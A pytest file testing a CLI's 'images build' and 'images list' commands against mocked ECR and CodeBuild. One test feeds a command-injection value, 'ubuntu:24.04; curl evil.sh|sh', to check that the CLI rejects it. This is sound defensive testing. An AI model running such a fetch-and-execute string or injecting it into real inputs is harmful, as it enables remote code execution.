"""`ecsrunner images list|build`: ECR joined with the build records, and pre-builds through the
control plane's own code path, against the image-builds fleet in moto
(tests/control_plane/image_harness.py) and the control-plane Lambda's configuration."""

from __future__ import annotations

import pytest

from tests.cli.conftest import Cli
from tests.control_plane.harness import Fleet, job_payload
from tests.control_plane.image_harness import (
    DEFAULT_BASE,
    FINGERPRINT,
    ImageFleet,
    codebuild_proxy_fixture,  # noqa: F401 (a fixture)
    image_fleet_fixture,  # noqa: F401 (a fixture)
    tag_of,
)

UBUNTU = "docker.io/library/ubuntu:24.04"


@pytest.fixture
def builds_function(image_fleet: ImageFleet, control_plane_function: str) -> str:
    """The control-plane Lambda of the image-builds fleet (its settings: image_fleet's)."""
    return control_plane_function


def test_build_starts_one_build_through_the_control_plane_path(
    image_fleet: ImageFleet, builds_function: str, run: Cli
) -> None:
    tag = tag_of("ubuntu:24.04")

    result = run("images", "build", "ubuntu:24.04")

    assert result.exit_code == 0, result.output
    (build_id,) = image_fleet.build_ids()
    lines = result.stdout.splitlines()
    assert lines[0] == "build started: jobs asking for this base wait for it"
    assert lines[1].split() == ["image_uri", f"{image_fleet.repository_url}:{tag}"]
    assert f"build_id    {build_id}" in result.stdout
    (request,) = image_fleet.start_builds()
    variables = {v["name"]: v["value"] for v in request["environmentVariablesOverride"]}
    assert variables == {
        "BASE_IMAGE": UBUNTU,
        "IMAGE_TAG": tag,
        "ECR_REPOSITORY_URL": image_fleet.repository_url,
        "RUNNER_IMAGE_FINGERPRINT": FINGERPRINT,
        "RUNNER_VARIANT": "runner",
    }
    record = image_fleet.build_record(tag)
    assert record["status"] == "building" and "waiting_jobs" not in record

    # again: the running build is reported, not started twice
    again = run.json("images", "build", "docker.io/library/ubuntu:24.04")
    assert again == {
        "base_image": UBUNTU,
        "image_tag": tag,
        "image_uri": f"{image_fleet.repository_url}:{tag}",
        "status": "building",
        "build_id": build_id,
        "log_link": record["log_link"],
        "project": image_fleet.project,
    }
    assert len(image_fleet.start_builds()) == 1

    # a job asking for it now waits for the same build; once built, the image exists
    fleet = image_fleet.fleet
    payload = job_payload(labels=["self-hosted", "image:ubuntu:24.04"])
    assert fleet.deliver(payload)["result"] == "image-building"
    assert len(image_fleet.start_builds()) == 1
    image_fleet.push_image(tag)
    fleet.invoke(image_fleet.build_event("SUCCEEDED"))
    assert fleet.record(payload["workflow_job"]["id"])["status"] == "starting"
    assert run.json("images", "build", "ubuntu:24.04")["status"] == "exists"
    assert len(image_fleet.start_builds()) == 1


def test_build_refuses_bad_references_and_disabled_builds(
    fleet: Fleet, control_plane_function: str, run: Cli
) -> None:
    # this fleet has no image builds (IMAGE_BUILD_PROJECT is empty in its Lambda)
    result = run("images", "build", "ubuntu:24.04")
    assert result.exit_code == 1
    assert result.stderr.strip() == (
        "error: image builds are not enabled for this fleet: set the module input "
        "image_build_project (the name of the CodeBuild project the module creates) and apply"
    )


def test_build_refuses_an_invalid_base_and_starts_nothing(
    image_fleet: ImageFleet, builds_function: str, run: Cli
) -> None:
    result = run("images", "build", "ubuntu:24.04; curl evil.sh|sh")

    assert result.exit_code == 2
    assert result.stderr.startswith(
        "error: invalid image reference 'ubuntu:24.04; curl evil.sh|sh': characters not allowed"
    )
    assert image_fleet.start_builds() == [] and image_fleet.build_ids() == []


def test_list_joins_ecr_images_with_their_builds(
    image_fleet: ImageFleet, builds_function: str, run: Cli
) -> None:
    fleet = image_fleet.fleet
    built, building, by_hand = tag_of("ubuntu:24.04"), tag_of("debian:12"), "v1"
    assert run.json("images", "build", "ubuntu:24.04")["status"] == "started"
    digest = image_fleet.push_image(built)
    fleet.invoke(image_fleet.build_event("SUCCEEDED"))
    fleet.deliver(job_payload(labels=["self-hosted", "image:debian:12"]))  # a build starts
    hand_digest = image_fleet.push_image(by_hand)  # pushed by someone, no build record

    listing = run.json("images", "list")

    assert listing["repository"] == image_fleet.repository
    rows = {row["tag"]: row for row in listing["images"]}
    assert set(rows) == {built, building, by_hand}
    assert rows[built]["base_image"] == UBUNTU
    assert rows[built]["build_status"] == "succeeded"
    assert rows[built]["digest"] == digest and rows[built]["pushed_at"].endswith("Z")
    assert rows[built]["build_id"] == image_fleet.build_ids()[0]
    assert rows[building]["build_status"] == "building" and rows[building]["digest"] is None
    assert rows[building]["base_image"] == "docker.io/library/debian:12"
    assert rows[by_hand]["base_image"] is None and rows[by_hand]["digest"] == hand_digest

    table = run("images", "list")
    assert table.exit_code == 0, table.output
    header, _, *lines = table.stdout.splitlines()
    assert header.split() == ["TAG", "BASE", "BUILD", "DIGEST", "PUSHED", "SIZE"]
    cells = {line.split()[0]: line.split() for line in lines}
    assert cells[built][1:4] == [UBUNTU, "succeeded", digest[7:19]]
    assert cells[building][1:] == ["docker.io/library/debian:12", "building", "-", "-", "-"]
    assert cells[by_hand][1:4] == ["-", "-", hand_digest[7:19]]


def test_list_of_an_empty_repository(image_fleet: ImageFleet, run: Cli) -> None:
    result = run("images", "list")
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == f"no runner images in {image_fleet.repository} and no builds"
    assert run.json("images", "list") == {"repository": image_fleet.repository, "images": []}


def test_the_default_base_is_built_like_any_other(
    image_fleet: ImageFleet, builds_function: str, run: Cli
) -> None:
    started = run.json("images", "build", DEFAULT_BASE)
    assert (started["status"], started["image_tag"]) == ("started", tag_of(DEFAULT_BASE))
